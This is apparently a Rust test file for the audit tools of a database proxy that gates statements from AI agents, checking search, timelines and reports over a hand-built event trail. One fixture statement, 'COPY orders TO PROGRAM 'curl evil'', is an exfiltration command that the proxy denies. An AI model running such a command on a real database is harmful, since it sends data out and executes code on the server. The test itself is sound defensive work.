//! The auditor's tools (search, session_timeline, report) over a realistic
//! hand-built trail with known timestamps.

use std::path::{Path, PathBuf};

use crate::audit_common::*;
use pg_airlock::audit::event::*;
use pg_airlock::audit::*;

fn at(s: &str, kind: EventKind) -> Event {
    Event {
        ts: Timestamp::parse(s).unwrap(),
        kind,
    }
}

#[allow(clippy::too_many_arguments)]
fn statement(
    ts: &str,
    session: &str,
    agent: &str,
    n: u64,
    sql: &str,
    cats: &[&str],
    decision: &str,
    rules: &[&str],
    req: Option<&str>,
    outcome: Outcome,
) -> Event {
    at(
        ts,
        EventKind::Statement(Statement {
            session: session.into(),
            agent: agent.into(),
            statement: n,
            sql: Some(sql.into()),
            text_mode: String::new(),
            parameters: None,
            parameter_count: 0,
            categories: cats.iter().map(|c| c.to_string()).collect(),
            tables: vec![],
            functions: vec![],
            decision: decision.into(),
            rules: rules.iter().map(|c| c.to_string()).collect(),
            ruleset: Some("rs-v2".into()),
            request_id: req.map(str::to_string),
            outcome,
            duration_us: 2500,
        }),
    )
}

fn request(
    ts: &str,
    id: &str,
    session: &str,
    agent: &str,
    n: u64,
    sql: &str,
    cats: &[&str],
) -> Event {
    at(
        ts,
        EventKind::ApprovalRequested(ApprovalRequested {
            request_id: id.into(),
            session: session.into(),
            agent: agent.into(),
            statement: n,
            sql: sql.into(),
            prepared: vec![],
            categories: cats.iter().map(|c| c.to_string()).collect(),
            rules: vec!["ddl-needs-approval".into()],
            ruleset: Some("rs-v2".into()),
            approvers: vec!["alice".into(), "bob".into()],
            quorum: 1,
            channel: "slack:#db-approvals".into(),
            timeout_ms: 300_000,
        }),
    )
}

fn decided(ts: &str, id: &str, d: &str, by: &str, latency_ms: u64) -> Event {
    at(
        ts,
        EventKind::ApprovalDecided(ApprovalDecided {
            request_id: id.into(),
            session: None,
            decision: d.into(),
            approvers: vec![by.into()],
            reason: Some(format!("{d} per change ticket")),
            channel: "slack:#db-approvals".into(),
            latency_ms,
        }),
    )
}

pub async fn scenario(dir: &Path) -> Vec<PathBuf> {
    let (a, task) = Auditor::start(cfg(dir)).await.unwrap();
    let ok = |tag: &str| Outcome::Ok {
        command_tag: tag.into(),
        rows: None,
    };
    let evs = vec![
        at(
            "2026-11-20T08:00:00Z",
            EventKind::PolicyLoaded(PolicyLoaded {
                ruleset: "rs-v1".into(),
                config: None,
                sources: vec!["rules/base.toml".into()],
                rule_count: 10,
                trigger: "startup".into(),
            }),
        ),
        at(
            "2026-11-20T09:00:00Z",
            EventKind::PolicyLoaded(PolicyLoaded {
                ruleset: "rs-v2".into(),
                config: None,
                sources: vec!["rules/base.toml".into()],
                rule_count: 11,
                trigger: "reload".into(),
            }),
        ),
        at(
            "2026-11-20T10:00:00Z",
            EventKind::SessionStart(SessionStart {
                session: "s-1".into(),
                agent: "etl-bot".into(),
                client_addr: "10.0.0.5".into(),
                client_port: 51000,
                tls: true,
                client_cert_subject: Some("CN=etl-bot".into()),
                database: "app".into(),
                application_name: Some("etl".into()),
            }),
        ),
        statement(
            "2026-11-20T10:00:01Z",
            "s-1",
            "etl-bot",
            1,
            "SELECT * FROM orders WHERE id = 5",
            &["read"],
            "allow",
            &[],
            None,
            ok("SELECT 1"),
        ),
        request(
            "2026-11-20T10:00:02Z",
            "r-1",
            "s-1",
            "etl-bot",
            2,
            "DROP TABLE old_orders",
            &["ddl"],
        ),
        decided("2026-11-20T10:00:14Z", "r-1", "approved", "alice", 12_000),
        statement(
            "2026-11-20T10:00:14.5Z",
            "s-1",
            "etl-bot",
            2,
            "DROP TABLE old_orders",
            &["ddl"],
            "approved",
            &["ddl-needs-approval"],
            Some("r-1"),
            ok("DROP TABLE"),
        ),
        statement(
            "2026-11-20T10:00:20Z",
            "s-1",
            "etl-bot",
            3,
            "COPY orders TO PROGRAM 'curl evil'",
            &["server_io"],
            "deny",
            &["no-copy-program"],
            None,
            Outcome::NotSent,
        ),
        at(
            "2026-11-20T10:05:00Z",
            EventKind::SessionEnd(SessionEnd {
                session: "s-1".into(),
                agent: "etl-bot".into(),
                started_at: Some(Timestamp::parse("2026-11-20T10:00:00Z").unwrap()),
                statements: 3,
                reason: "client_terminate".into(),
            }),
        ),
        at(
            "2026-11-21T11:00:00Z",
            EventKind::SessionStart(SessionStart {
                session: "s-2".into(),
                agent: "report-bot".into(),
                client_addr: "10.0.0.9".into(),
                client_port: 40000,
                tls: false,
                client_cert_subject: None,
                database: "app".into(),
                application_name: None,
            }),
        ),
        request(
            "2026-11-21T11:00:01Z",
            "r-2",
            "s-2",
            "report-bot",
            1,
            "DELETE FROM customers",
            &["write", "no_where"],
        ),
        decided("2026-11-21T11:03:01Z", "r-2", "denied", "bob", 180_000),
        request(
            "2026-11-21T11:10:00Z",
            "r-3",
            "s-2",
            "report-bot",
            2,
            "TRUNCATE audit_copy",
            &["ddl"],
        ),
        at(
            "2026-11-21T11:15:00Z",
            EventKind::ApprovalExpired(ApprovalClosed {
                request_id: "r-3".into(),
                session: Some("s-2".into()),
                reason: "no decision within 300s".into(),
                latency_ms: 300_000,
            }),
        ),
        at(
            "2026-11-21T11:16:00Z",
            EventKind::LoginRefused(LoginRefused {
                client_addr: "10.0.0.66".into(),
                client_port: 1234,
                tls: false,
                user: Some("mallory".into()),
                database: Some("app".into()),
                reason: "unknown agent".into(),
            }),
        ),
    ];
    for e in evs {
        a.record(e).await.unwrap();
    }
    a.shutdown().await.unwrap();
    task.join().await.unwrap();
    dir_files(dir)
}

#[tokio::test]
async fn search_filters_and_joins_approvals_to_their_session() {
    let dir = tempfile::tempdir().unwrap();
    let files = scenario(dir.path()).await;
    let types = |f: Filter| -> Vec<String> {
        search(&files, &f)
            .unwrap()
            .iter()
            .map(|r| r.event.type_name().to_string())
            .collect()
    };
    // Decisions name only the request id; the agent is joined from the request.
    assert_eq!(
        types(Filter {
            agent: Some("report-bot".into()),
            ..Default::default()
        }),
        [
            "session_start",
            "approval_requested",
            "approval_decided",
            "approval_requested",
            "approval_expired"
        ]
    );
    assert_eq!(
        types(Filter {
            category: Some("ddl".into()),
            ..Default::default()
        })
        .len(),
        5
    );
    assert_eq!(
        types(Filter {
            decision: Some("deny".into()),
            ..Default::default()
        }),
        ["statement"]
    );
    assert_eq!(
        types(Filter {
            decision: Some("expired".into()),
            ..Default::default()
        }),
        ["approval_expired"]
    );
    assert_eq!(
        types(Filter {
            session: Some("s-1".into()),
            decision: Some("approved".into()),
            ..Default::default()
        }),
        ["approval_decided", "statement"]
    );
    let day2 = Filter {
        since: Some(Timestamp::parse("2026-11-21").unwrap()),
        until: Some(Timestamp::parse("2026-11-21T11:05:00Z").unwrap()),
        ..Default::default()
    };
    assert_eq!(types(day2).len(), 3);
    assert_eq!(
        types(Filter {
            text: Some("MALLORY".into()),
            ..Default::default()
        }),
        ["login_refused"]
    );
    // Redaction reached the stored text, and search sees the stored form.
    assert!(
        types(Filter {
            text: Some("id = 5".into()),
            ..Default::default()
        })
        .is_empty()
    );
    assert_eq!(
        types(Filter {
            text: Some("id = ?".into()),
            ..Default::default()
        }),
        ["statement"]
    );
}

#[tokio::test]
async fn timeline_reads_as_a_story() {
    let dir = tempfile::tempdir().unwrap();
    let files = scenario(dir.path()).await;
    let t = session_timeline(&files, "s-1").unwrap();
    eprintln!("{t}");
    assert!(
        t.contains("agent etl-bot  from 10.0.0.5:51000  tls yes (cert CN=etl-bot)  database app")
    );
    let order = [
        "session start",
        "statement 1: allow",
        "approval requested r-1",
        "approval r-1 approved by alice after 12.0s",
        "statement 2: approved",
        "statement 3: deny",
        "session end: client_terminate",
    ];
    let mut pos = 0;
    for o in order {
        let p = t[pos..]
            .find(o)
            .unwrap_or_else(|| panic!("{o:?} missing or out of order in\n{t}"));
        pos += p;
    }
    assert!(t.contains("+   14.500s"));
    assert!(!t.contains("s-2") && !t.contains("report-bot"));
    assert_eq!(
        session_timeline(&files, "nope").unwrap(),
        "session nope: no records\n"
    );
}

#[tokio::test]
async fn report_covers_privileged_actions_latency_and_integrity() {
    let dir = tempfile::tempdir().unwrap();
    let files = scenario(dir.path()).await;
    let since = Some(Timestamp::parse("2026-11-20T09:30:00Z").unwrap());
    let json = report(&files, since, None, ReportFormat::Json).unwrap();
    let r: serde_json::Value = serde_json::from_str(&json).unwrap();
    assert_eq!(r["chain"]["ok"], true);
    assert_eq!(r["chain"]["tail_checked"], true);
    let rs: Vec<&str> = r["rulesets"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["ruleset"].as_str().unwrap())
        .collect();
    assert_eq!(rs, ["rs-v2"], "v1 was replaced before the period began");
    assert_eq!(r["rulesets"][0]["decisions"], 3);
    let p = r["privileged"].as_array().unwrap();
    assert_eq!(p.len(), 3);
    assert_eq!(p[0]["outcome"], "approved");
    assert_eq!(p[0]["decided_by"][0], "alice");
    assert_eq!(p[0]["result"], "DROP TABLE");
    assert_eq!(p[1]["outcome"], "denied");
    assert_eq!(p[2]["outcome"], "expired");
    assert_eq!(r["by_category"]["ddl"]["requested"], 2);
    assert_eq!(r["by_category"]["server_io"]["refused_by_rule"], 1);
    assert_eq!(r["refusals_per_rule"]["no-copy-program"], 1);
    assert_eq!(r["latency"]["decisions"], 2);
    assert_eq!(r["latency"]["p50_ms"], 12_000);
    assert_eq!(r["latency"]["max_ms"], 180_000);
    assert_eq!(r["per_day"][1]["day"], "2026-11-21");
    assert_eq!(r["logins_refused"], 1);

    let csv = report(&files, since, None, ReportFormat::Csv).unwrap();
    let rows: Vec<&str> = csv.split("\r\n").filter(|l| !l.is_empty()).collect();
    assert_eq!(rows.len(), 1 + 3 + 1);
    assert!(
        rows[1].starts_with("\"approval\",\"2026-11-20T10:00:02.000000Z\",\"r-1\",\"etl-bot\""),
        "{}",
        rows[1]
    );

    let html = report(&files, None, None, ReportFormat::Html).unwrap();
    assert!(html.contains("<svg") && html.contains("Hash chain verified"));
    assert!(!html.contains("<script") && !html.contains("src=") && !html.contains("href="));
    assert!(html.contains("default-src 'none'"));
    let without_ns = html.replace("xmlns=\"http://www.w3.org/2000/svg\"", "");
    assert!(!without_ns.contains("http://") && !without_ns.contains("https://"));

    // A broken chain is the report's first finding, not a crash.
    let mut l = lines(&files[0]);
    l.remove(3);
    write_lines(&files[0], &l);
    let html = report(&files, None, None, ReportFormat::Html).unwrap();
    assert!(html.contains("Hash chain BROKEN") && html.contains("RecordsMissing"));
}
